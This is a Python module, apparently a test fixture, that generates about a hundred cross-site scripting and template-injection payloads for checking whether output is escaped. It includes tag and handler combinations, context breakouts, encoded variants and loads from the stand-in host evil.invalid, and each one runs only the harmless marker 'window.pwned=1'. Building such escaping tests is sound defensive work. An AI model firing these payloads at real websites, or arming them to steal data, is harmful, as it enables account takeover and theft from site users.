"""A hundred texts that become scripts wherever somebody forgot to escape them."""

from __future__ import annotations

_CALL = "window.pwned=1"
_TAGS = ("img", "svg", "video", "audio", "body", "iframe", "input", "details", "object", "marquee")
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover")
_CONTEXTS = (
    "{}",
    '">{}',
    "'>{}",
    "</pre>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "--> {}",
    "]]>{}",
    "</style>{}",
)

HOSTILE_TEXTS: tuple[str, ...] = (
    *(
        f'<{tag} {handler}="{_CALL}" src=x open autofocus>'
        for tag in _TAGS
        for handler in _HANDLERS
    ),
    *(context.format(f"<script>{_CALL}</script>") for context in _CONTEXTS),
    *(context.format(f"<img src=x onerror={_CALL}>") for context in _CONTEXTS),
    *(f'" {handler}="{_CALL}" x="' for handler in _HANDLERS),
    *(f"' {handler}='{_CALL}' x='" for handler in _HANDLERS),
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<math><mtext><script>{_CALL}</script></mtext></math>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title='</noscript><script>{_CALL}</script>'>",
    f"<a href='javascript:{_CALL}'>click</a>",
    f"<form action='javascript:{_CALL}'><button>go</button></form>",
    f"<base href='//evil.invalid/'><script>{_CALL}</script>",
    f"<link rel=stylesheet href='//evil.invalid/x.css'><script>{_CALL}</script>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"<scr\x00ipt>{_CALL}</scr\x00ipt>",
    f"<!--><script>{_CALL}</script>-->",
    f"<style>@import '//evil.invalid/x.css'</style><script>{_CALL}</script>",
)
